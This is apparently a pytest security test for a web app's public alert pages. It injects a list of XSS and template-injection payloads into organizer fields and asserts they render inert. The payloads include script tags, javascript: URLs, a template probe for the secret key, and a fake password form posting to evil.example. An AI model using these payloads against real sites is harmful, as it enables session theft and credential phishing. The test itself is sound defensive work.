"""Hostile organizer content stays inert on every public page (asserted on the HTML)."""

import re
from html.parser import HTMLParser

import pytest

from tests.factories import add_alert
from tests.helpers import form_for, submit_form

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    '<p style="position:fixed;inset:0;background:red">cover</p>',
    '"><svg onload=alert(1)>',
    "</textarea></title><script>alert(1)</script>",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "{{ 7*7 }} {% for x in range(3) %}loop{% endfor %} {{ config.SECRET_KEY }}",
    "${7*7} #{7*7} <%= 7*7 %> {0.__class__}",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<div onclick=alert(1)>",
]
FIELDS = ["title", "appeal", "call_script", "thank_you_text", "share_text", "email_subject",
          "email_body"]
DANGEROUS_TAGS = {"script", "iframe", "style", "base", "svg", "object", "embed"}


class _Inspector(HTMLParser):
    """Finds what a browser would act on: tags, event handlers, script URLs, styles."""

    def __init__(self):
        super().__init__()
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in dict(attrs):
            self.problems.append("<meta http-equiv>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name == "style":
                self.problems.append(f"{tag} {name}=")
            if name in {"href", "src", "action", "formaction"} and (
                    value.startswith(("javascript:", "data:", "vbscript:"))
                    or (tag == "form" and value.startswith("//"))):
                self.problems.append(f"{tag} {name}={value}")
            if tag == "input" and attrs and dict(attrs).get("name") == "password":
                self.problems.append("password input")

    def handle_data(self, data):
        self.text.append(data)


def problems_in(page: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(page)
    text = " ".join(inspector.text)
    # Organizer text is never evaluated as a template: no 49 from {{ 7*7 }}, no loop output.
    if re.search(r"\b49\b", text) or "looploop" in text.replace(" ", ""):
        inspector.problems.append("template evaluated")
    if "test-secret-key" in text:
        inspector.problems.append("secret leaked")
    return inspector.problems


def _public_pages(client, alert) -> list[str]:
    pages = [client.get(f"/a/{alert.slug}").text]
    response = submit_form(client, f"/a/{alert.slug}", {
        "first_name": "Ana", "last_name": "Gómez", "email": "ana@example.org",
        "zip_code": "82001"})
    assert response.status_code == 302
    call = client.get(f"/a/{alert.slug}/call").text
    pages.append(call)
    form = form_for(call, containing="submission_key")
    client.post(form["action"], data={**form["fields"], "outcome": "talked"})
    pages.append(client.get(f"/a/{alert.slug}/call").text)
    pages.append(client.get(f"/a/{alert.slug}/thanks").text)
    return pages


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payload_in_every_organizer_field_is_inert(client, login, full_data, payload):
    texts = {}
    for field in FIELDS:
        value = payload[:150] if field in ("title", "email_subject") else payload
        texts[field] = f"Mark{field.replace('_', '')} {value} after"
    alert = add_alert(**texts)
    pages = _public_pages(client, alert)
    login("organizer")  # the editor's preview shows the email texts too
    pages.append(client.get(f"/staff/alerts/{alert.id}/preview",
                            query_string={"first_name": "Ana", "zip_code": "82001"}).text)
    for page in pages:
        assert problems_in(page) == []
    for field in FIELDS:  # each field really was shown somewhere
        assert any(f"Mark{field.replace('_', '')}" in page for page in pages), field
